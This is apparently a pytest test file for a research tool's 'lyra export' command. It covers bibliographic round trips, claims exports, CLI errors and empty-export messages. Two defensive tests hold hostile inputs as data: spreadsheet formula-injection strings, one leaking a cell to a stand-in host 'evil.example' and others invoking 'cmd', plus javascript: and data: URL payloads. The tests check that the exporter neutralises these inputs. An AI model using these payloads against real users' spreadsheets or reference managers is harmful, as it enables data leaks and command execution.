"""``lyra export``: papers round-trip through the BibTeX and RIS libraries; claims come out with
their effective verdicts and edge ids; bad input is one line and no file."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys

import bibtexparser
import pandas as pd
import rispy
from typer.testing import CliRunner

from fixtures.graphs import write_graph
from fixtures.paths import REPO
from lyra_core.papers import family_given
from lyra_resources.store.lyra_store import LyraStore
from lyra_tools.cli import app
from lyra_tools.exports import formats as export
from lyra_tools.feedback.apply import apply_feedback

AUTHORS = ["Smith, Jane Q.", "van Beethoven, Ludwig", "Müller, Jörg"]


def graph_with_authors(tmp_path):
    store = LyraStore.at(tmp_path / "home")
    graph = write_graph(store)
    papers = store.read_partition("papers", graph.task_id).drop(columns="task_id")
    papers["authors"] = [AUTHORS, ["Doe, J."], [], ["World Health Organization"]]
    store.replace_partition("papers", graph.task_id, papers)
    return store, graph, papers


def test_family_given_names():
    assert [family_given(n) for n in ("Jane Q. Smith", "Ludwig van Beethoven", "Smith, John", "WHO")] == [
        "Smith, Jane Q.",
        "van Beethoven, Ludwig",
        "Smith, John",
        "WHO",
    ]
    # a group's name is not a person's: it is not turned around
    assert family_given("World Health Organization") == "World Health Organization"
    assert family_given("PROTECT Trial Investigators") == "PROTECT Trial Investigators"


def test_bibtex_and_ris_round_trip(tmp_path):
    store, graph, papers = graph_with_authors(tmp_path)
    bib = bibtexparser.parse_string(export.export(store, graph.task_id, "bibtex"))
    assert not bib.failed_blocks
    by_title = {e["title"]: e for e in bib.entries}
    for row in papers.itertuples(index=False):
        entry = by_title[row.title]
        assert entry.fields_dict.get("doi", None) is None or entry["doi"] == row.doi
        # a group's name is braced, so BibTeX takes it whole
        assert (
            [a.removeprefix("{").removesuffix("}") for a in entry["author"].split(" and ")]
            if "author" in entry.fields_dict
            else []
        ) == list(row.authors)
    ris = rispy.loads(export.export(store, graph.task_id, "ris"))
    assert [(r["title"], r.get("doi"), r.get("authors", [])) for r in ris] == [
        (p.title, p.doi, list(p.authors)) for p in papers.sort_values("search_rank").itertuples(index=False)
    ]
    csl = json.loads(export.export(store, graph.task_id, "csl-json"))
    assert csl[0]["author"][1] == {"family": "van Beethoven", "given": "Ludwig"}
    assert [{"literal": "World Health Organization"}] in [
        i.get("author") for i in csl
    ]  # a group, not a person
    assert csl[0]["issued"] == {"date-parts": [[2019]]} and csl[0]["DOI"] == "10.1001/jama.2019.0001"


def test_claims_export_applies_feedback(tmp_path):
    store, graph, _ = graph_with_authors(tmp_path)
    apply_feedback(store, graph.task_id, "claim_reject", {"claim_id": graph.claims["hip"], "reason": "vague"})
    rows = [json.loads(line) for line in export.export(store, graph.task_id, "jsonl").splitlines()]
    assert graph.claims["hip"] not in {r["claim_id"] for r in rows} and len(rows) == 3
    user = next(r for r in rows if r["claim_id"] == graph.claims["user"])
    assert {e["edge_id"] for e in user["evidence"]} == {
        graph.edges[("user", p)] for p in ("meta", "whi", "blog")
    }
    table = pd.read_csv(__import__("io").StringIO(export.export(store, graph.task_id, "csv")))
    assert set(table["claim_id"]) == {r["claim_id"] for r in rows}


def test_cli_export_writes_the_file_and_refuses_bad_input(tmp_path):
    store, graph, _ = graph_with_authors(tmp_path)
    runner, home = CliRunner(), str(store.layout.root)
    out = tmp_path / "out" / "refs.bib"
    refused = runner.invoke(
        app, ["export", graph.task_id, "--format", "bibtex", "--out", str(out), "--home", home]
    )
    assert refused.exit_code == 1 and "does not exist" in refused.output and not out.parent.exists()
    out.parent.mkdir()  # --out names a file in a folder that exists, as `lyra search --run` does
    done = runner.invoke(
        app, ["export", graph.task_id, "--format", "bibtex", "--out", str(out), "--home", home]
    )
    assert done.exit_code == 0 and "Smith, Jane Q." in out.read_text()
    html = runner.invoke(app, ["export", graph.task_id, "--format", "html", "--home", home])
    assert html.exit_code == 0 and html.stdout.startswith("<!doctype html>")
    bad = runner.invoke(
        app, ["export", graph.task_id, "--format", "docx", "--out", str(tmp_path / "x"), "--home", home]
    )
    assert bad.exit_code == 1 and "unknown --format 'docx'" in bad.output and not (tmp_path / "x").exists()
    missing = runner.invoke(app, ["export", "task_nope", "--format", "ris", "--home", home])
    assert missing.exit_code == 1


def test_papers_keep_their_authors_as_family_given(tmp_path):
    from lyra_core.papers import PaperRecord, canonicalize
    from lyra_resources.corpus.paper_rows import papers_frame

    records = [
        PaperRecord(
            source="s2",
            source_id="1",
            title="Vitamin D and fracture risk in older adults",
            doi="10.1/x",
            authors=["Jane Q. Smith", "Ludwig van Beethoven"],
        ),
        PaperRecord(
            source="openalex",
            source_id="W1",
            title="Vitamin D and fracture risk in older adults",
            doi="10.1/x",
            authors=["Someone Else"],
        ),
    ]
    frame = papers_frame(canonicalize(records))
    assert list(frame.iloc[0]["authors"]) == ["Smith, Jane Q.", "van Beethoven, Ludwig"]  # the best record's
    store = LyraStore.at(tmp_path / "home")
    task = store.create_task("q")
    store.replace_partition("papers", task.id, frame)
    assert list(store.read_partition("papers", task.id).iloc[0]["authors"]) == [
        "Smith, Jane Q.",
        "van Beethoven, Ludwig",
    ]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n",
    "Vitamin D = good",
]


def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path):
    store, graph, _ = graph_with_authors(tmp_path)
    written = store.read_partition("claims", graph.task_id).drop(columns="task_id")
    in_force = [graph.claims[n] for n in ("hip", "none", "falls", "user")]
    for batch in (FORMULAS[:4], FORMULAS[4:]):  # four claims in force: four texts a round
        claims = written.copy()
        for claim_id, text in zip(in_force, batch, strict=True):
            claims.loc[claims["claim_id"] == claim_id, "text"] = text
        store.replace_partition("claims", graph.task_id, claims)
        table = export.export(store, graph.task_id, "csv")
        rows = list(csv.DictReader(io.StringIO(table, newline="")))
        texts = {r["claim_id"]: r["text"] for r in rows}
        for claim_id, text in zip(in_force, batch, strict=True):
            if text[0] in "=+-@\t\r\n":
                assert texts[claim_id] == "'" + text  # shown as the text it is, never run
            else:
                assert texts[claim_id] == text
        assert len(rows) == 4  # a line break inside a text never starts a row
        for row in rows:  # no cell a spreadsheet runs
            assert not [v for v in row.values() if v[:1] and v[:1] in "=+-@\t\r\n"], row
        # text cells are quoted, numbers are not: a reader that turns unquoted cells to numbers gets numbers
        header, *typed = csv.reader(io.StringIO(table, newline=""), quoting=csv.QUOTE_NONNUMERIC)
        for row in (dict(zip(header, cells, strict=True)) for cells in typed):
            assert isinstance(row["text"], str) and isinstance(row["claim_id"], str)
            for column in ("confidence", "uncertainty", "supporting", "refuting"):
                assert isinstance(row[column], float) and row[column] >= 0
    assert export.csv_cell(-0.25) == -0.25 and export.csv_cell("-0.25") == "'-0.25"


def test_reference_exports_carry_only_http_urls(tmp_path):
    """A reference manager turns a record's URL into a link: a script or data URL is left out."""
    store, graph, papers = graph_with_authors(tmp_path)
    hostile = [
        "javascript:alert(document.domain)//",
        " JaVaScRiPt:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "https://example.org/paper?id=1",
    ]
    store.replace_partition("papers", graph.task_id, papers.assign(url=hostile))
    bib = bibtexparser.parse_string(export.export(store, graph.task_id, "bibtex"))
    ris = rispy.loads(export.export(store, graph.task_id, "ris"))
    csl = json.loads(export.export(store, graph.task_id, "csl-json"))
    urls = (
        [e["url"] for e in bib.entries if "url" in e.fields_dict]
        + [u for r in ris for u in r.get("urls", [])]
        + [item["URL"] for item in csl if "URL" in item]
    )
    assert urls == ["https://example.org/paper?id=1"] * 3


# -- the real `lyra export` on a task whose papers lack fields ---------------------------------------


def lyra_export(home, *args: str) -> subprocess.CompletedProcess:
    """``lyra export ARGS --home HOME`` as a process, as a person runs it."""
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    env.pop("LYRA_DEBUG", None)
    return subprocess.run(
        [sys.executable, "-m", "lyra_tools.cli", "export", *args, "--home", str(home)],
        env=env,
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
        timeout=120,
    )


def graph_with_bare_papers(tmp_path) -> tuple[LyraStore, object, str, str]:
    """The test graph in a DuckDB store where the meta-analysis (which holds evidence) has lost its
    year, authors and DOI, and one more paper, with no edge, has nothing but its id and PMID."""
    store, graph, papers = graph_with_authors(tmp_path)
    meta = papers.index[papers["doi"] == "10.1001/jama.2019.0001"][0]
    papers = papers.astype({"year": "Int64", "search_rank": "Int64"})
    papers.loc[meta, ["year", "doi", "authors"]] = [pd.NA, None, None]
    bare = pd.DataFrame(
        [{"paper_id": "p_bare", "pmid": "29876543", "sources": ["local:row-7"]}], columns=papers.columns
    ).astype(papers.dtypes.to_dict())
    store.replace_partition("papers", graph.task_id, pd.concat([papers, bare], ignore_index=True))
    return store, graph, papers.loc[meta, "paper_id"], "p_bare"


def exported_ids(fmt: str, text: str) -> set[str]:
    """Lyra's paper ids in a reference export, read by the format's own library."""
    if fmt == "bibtex":
        library = bibtexparser.parse_string(text)
        assert not library.failed_blocks
        return {e["lyra_paper"] for e in library.entries}
    if fmt == "ris":
        return {r["id"] for r in rispy.loads(text)}
    return {item["id"] for item in json.loads(text)}


def test_cli_exports_every_format_when_papers_lack_year_authors_and_doi(tmp_path):
    store, graph, meta, bare = graph_with_bare_papers(tmp_path)
    home, everything = store.layout.root, {*store.read_partition("papers", graph.task_id)["paper_id"]}
    texts = {}
    for fmt in export.FORMATS:
        out = tmp_path / f"export.{export.SUFFIX[fmt]}"
        done = lyra_export(home, graph.task_id, "--format", fmt, "--out", str(out))
        assert done.returncode == 0 and "Traceback" not in done.stderr, (fmt, done.stderr)
        text = texts[fmt] = out.read_text(encoding="utf-8")
        if fmt in export.REFERENCE_FORMATS:
            assert exported_ids(fmt, text) == everything, fmt  # every retrieved paper, the bare ones too
        elif fmt == "csv":
            assert len(pd.read_csv(io.StringIO(text))) == 4
        elif fmt == "jsonl":
            assert len(text.splitlines()) == 4
        else:
            assert text.startswith("<!doctype html>")
    bib = {e["lyra_paper"]: e for e in bibtexparser.parse_string(texts["bibtex"]).entries}
    assert {"year", "author", "doi"}.isdisjoint(bib[meta].fields_dict) and bib[meta]["title"]
    assert (
        set(bib[bare].fields_dict) == {"pmid", "lyra_paper", "lyra_sources"}
        and bib[bare]["pmid"] == "29876543"
    )
    ris = {r["id"]: r for r in rispy.loads(texts["ris"])}
    assert ris[bare] == {
        "type_of_reference": "JOUR",
        "id": bare,
        "accession_number": "29876543",
        "custom2": "local:row-7",
    }
    csl = {i["id"]: i for i in json.loads(texts["csl-json"])}
    assert csl[bare] == {
        "id": bare,
        "type": "article-journal",
        "PMID": "29876543",
        "custom": {"lyra_sources": ["local:row-7"]},
    }
    assert "issued" not in csl[meta] and "author" not in csl[meta] and "DOI" not in csl[meta]


def test_cli_exports_only_the_papers_that_vote_on_a_claim(tmp_path):
    store, graph, meta, bare = graph_with_bare_papers(tmp_path)
    # without the claim it refutes, the nursing-home trial casts no vote (its other edges are neutral)
    apply_feedback(
        store, graph.task_id, "claim_reject", {"claim_id": graph.claims["none"], "reason": "vague"}
    )
    paper_of = store.read_partition("pages", graph.task_id).set_index("page_id")["paper_id"]
    voters = {paper_of[graph.pages[p]] for p in ("meta", "whi", "blog")}
    home = store.layout.root
    for fmt in export.REFERENCE_FORMATS:
        done = lyra_export(home, graph.task_id, "--format", fmt, "--only-evidence")
        assert done.returncode == 0, done.stderr
        assert exported_ids(fmt, done.stdout) == voters, fmt  # meta votes though it lacks year, authors, DOI
        assert meta in voters and bare not in voters
    refused = lyra_export(
        home, graph.task_id, "--format", "csv", "--only-evidence", "--out", str(tmp_path / "c.csv")
    )
    assert refused.returncode == 1 and not (tmp_path / "c.csv").exists()
    assert refused.stderr.count("\n") == 1 and "--only-evidence" in refused.stderr
    shown = " ".join(re.sub("[│╭╮╰╯─]", " ", CliRunner().invoke(app, ["export", "--help"]).output).split())
    assert "--only-evidence" in shown and "(default: every paper the task retrieved)" in shown


def test_an_empty_export_keeps_its_header_and_says_why_on_stderr(tmp_path):
    store = LyraStore.at(tmp_path / "home")
    fresh = store.create_task("Does vitamin D reduce fracture risk?")  # never run: no claim, no paper
    _, graph, _ = graph_with_authors(tmp_path)
    for claim_id in graph.claims.values():  # a run's graph whose every claim a person rejected
        apply_feedback(store, graph.task_id, "claim_reject", {"claim_id": claim_id, "reason": "vague"})
    header = ",".join(f'"{c}"' for c in export.CSV_COLUMNS)
    for task_id, why in (
        (fresh.id, f"it is created and has no claims yet (`lyra task run {fresh.id}` runs it)"),
        (graph.task_id, "feedback rejected every claim it has"),
    ):
        for fmt, text in (("csv", header + "\n"), ("jsonl", "")):
            done = lyra_export(store.layout.root, task_id, "--format", fmt)
            assert done.returncode == 0 and done.stdout == text, (fmt, done.stdout, done.stderr)
            assert done.stderr == f"note: the {fmt} export of task {task_id} is empty: {why}\n", done.stderr
            if fmt == "csv":  # a spreadsheet or pandas reads the columns of an empty table
                assert list(pd.read_csv(io.StringIO(done.stdout)).columns) == list(export.CSV_COLUMNS)
    out = tmp_path / "claims.csv"
    done = lyra_export(store.layout.root, fresh.id, "--format", "csv", "--out", str(out))
    assert done.returncode == 0 and out.read_text() == header + "\n", done.stderr
    assert done.stderr.startswith(f"note: the csv export of task {fresh.id} is empty"), done.stderr
    for fmt in export.REFERENCE_FORMATS:
        done = lyra_export(store.layout.root, fresh.id, "--format", fmt)
        assert done.returncode == 0 and done.stderr == (
            f"note: the {fmt} export of task {fresh.id} is empty: it is created and has no papers yet "
            f"(`lyra task run {fresh.id}` runs it)\n"
        ), done.stderr
    done = lyra_export(store.layout.root, graph.task_id, "--format", "bibtex", "--only-evidence")
    assert done.returncode == 0 and done.stdout.strip() == "", done.stdout
    assert done.stderr == (
        f"note: the bibtex export of task {graph.task_id} is empty: no paper votes for or against a claim\n"
    )
    done = lyra_export(store.layout.root, graph.task_id, "--format", "bibtex")  # a full export: no note
    assert done.returncode == 0 and done.stderr == "" and "@article" in done.stdout
